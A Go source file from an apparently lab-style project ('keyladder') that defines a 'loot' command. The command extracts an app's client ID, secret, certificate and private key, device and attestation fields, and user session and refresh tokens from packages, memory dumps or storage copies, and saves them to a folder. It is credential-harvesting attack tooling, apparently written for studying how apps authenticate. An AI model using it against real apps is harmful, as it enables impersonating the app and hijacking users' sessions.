package main

import (
	"crypto/x509"
	"encoding/pem"
	"errors"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"

	"github.com/spf13/cobra"

	"keyladder/internal/deployment"
	"keyladder/internal/program"
	"keyladder/mobileclient/attacker/loot"
	"keyladder/mobileclient/release"
	"keyladder/stages/mechanism/deviceid"
	"keyladder/stages/mechanism/hawk"
	"keyladder/stages/mechanism/integrity"
	"keyladder/stages/mechanism/session"
	"keyladder/stages/mechanism/token"
)

func lootCommand() *cobra.Command {
	var dir, into string
	c := &cobra.Command{
		Use:   "loot FILE...",
		Short: "Search packages, memory or storage of an app for what it identifies itself by",
		Long: `Search files for what an app identifies itself by: a package, a dump of its memory
(mobileclient --memory), a copy of its storage. What is found is written into a folder:

  client-id    the app's ID
  secret       its secret: what stands under such a name, or what one of the signed requests in
               the same file was signed with
  app.pem      its client certificate and private key
  device.txt   the fields that say which installation calls
  integrity.txt  the field with which an attestation service says that the app is the genuine one
  user.txt     these two, and the field that stands for its user
  refresh-token  what brings the next access token

What was not found is not written, and removed where it is there from an earlier search.`,
		Args: cobra.MinimumNArgs(1),
		RunE: func(c *cobra.Command, args []string) error {
			folder, err := new(program.Places).Open(dir, deployment.Attacker)
			if err != nil {
				return err
			}
			found := &loot.Loot{}
			for _, path := range args {
				if err := searchFile(found, path, folder.Addresses.URL(deployment.API)); err != nil {
					return err
				}
			}
			names, err := keepLoot(found, into)
			if err != nil {
				return err
			}
			fmt.Fprintf(c.OutOrStdout(), "found: %s\n", found)
			for _, name := range names {
				fmt.Fprintln(c.OutOrStdout(), filepath.Join(into, name))
			}
			return nil
		},
	}
	dataFlag(c, &dir)
	c.Flags().StringVar(&into, "into", "loot", "`FOLDER` to write what is found into")
	return c
}

// searchFile searches a file as attacks do: a package is unzipped, a signed request proves
// which of the texts beside it is the secret, and a certificate which number is its key.
func searchFile(found *loot.Loot, path, api string) error {
	data, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	found.Search(data)
	if _, _, assets, err := release.Read(path); err == nil {
		for decoded := range loot.Decoded(data) {
			found.Search(decoded)
		}
		for _, name := range slices.Sorted(maps.Keys(assets)) {
			found.Search(assets[name])
		}
		return nil
	}
	if len(found.Secrets.Signed) > 0 {
		host, port, err := hawk.HostPort(api)
		if err != nil {
			return err
		}
		texts := loot.Texts{}
		texts.Collect(data)
		if secret := texts.Prove(host, port, found.Secrets.Signed); secret != "" {
			found.Secrets.Values = []string{secret}
		}
	}
	if len(found.Certificates.Pairs()) == 0 {
		numbers := loot.NewScalars(found.Certificates.All)
		numbers.Search(data)
		for _, key := range numbers.Found {
			found.Certificates.AddKey(key)
		}
	}
	return nil
}

// keepLoot writes the first of each kind into a folder, and returns the files' names.
func keepLoot(found *loot.Loot, dir string) (names []string, err error) {
	files := map[string][]byte{"client-id": nil, "secret": nil, "app.pem": nil, "device.txt": nil, "integrity.txt": nil, "user.txt": nil, "refresh-token": nil}
	if len(found.ClientIDs) > 0 {
		files["client-id"] = []byte(found.ClientIDs[0])
	}
	if len(found.Secrets.Values) > 0 {
		files["secret"] = []byte(found.Secrets.Values[0])
	}
	if pairs := found.Certificates.Pairs(); len(pairs) > 0 {
		key, err := x509.MarshalPKCS8PrivateKey(pairs[0].PrivateKey)
		if err != nil {
			return nil, err
		}
		files["app.pem"] = slices.Concat(
			pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: pairs[0].Certificate[0]}),
			pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: key}))
	}
	if len(found.Installations) > 0 {
		latest := found.Installations[len(found.Installations)-1]
		files["device.txt"] = fmt.Appendf(nil, "%s: %s\n%s: %s\n", deviceid.Field, latest.Identifier, deviceid.GUIDField, latest.GUID)
	}
	if len(found.Integrity) > 0 {
		files["integrity.txt"] = fmt.Appendf(nil, "%s: %s\n", integrity.Field, found.Integrity[0])
	}
	if len(found.Sessions) > 0 {
		latest := found.Sessions[len(found.Sessions)-1]
		files["user.txt"] = append(fmt.Appendf(nil, "Authorization: %s %s\n", session.Scheme, string(latest)), files["device.txt"]...)
	}
	if len(found.Tokens) > 0 {
		latest := found.Tokens[len(found.Tokens)-1]
		files["user.txt"] = append(fmt.Appendf(nil, "Authorization: %s %s\n", token.Scheme, latest), files["integrity.txt"]...)
	}
	if len(found.Refreshing) > 0 {
		files["refresh-token"] = []byte(found.Refreshing[len(found.Refreshing)-1])
	}
	if err := os.MkdirAll(dir, 0o700); err != nil {
		return nil, err
	}
	for _, name := range slices.Sorted(maps.Keys(files)) {
		path := filepath.Join(dir, name)
		if len(files[name]) == 0 {
			if err := os.Remove(path); err != nil && !errors.Is(err, os.ErrNotExist) {
				return nil, err
			}
			continue
		}
		if err := os.WriteFile(path, files[name], 0o600); err != nil {
			return nil, err
		}
		names = append(names, name)
	}
	return names, nil
}
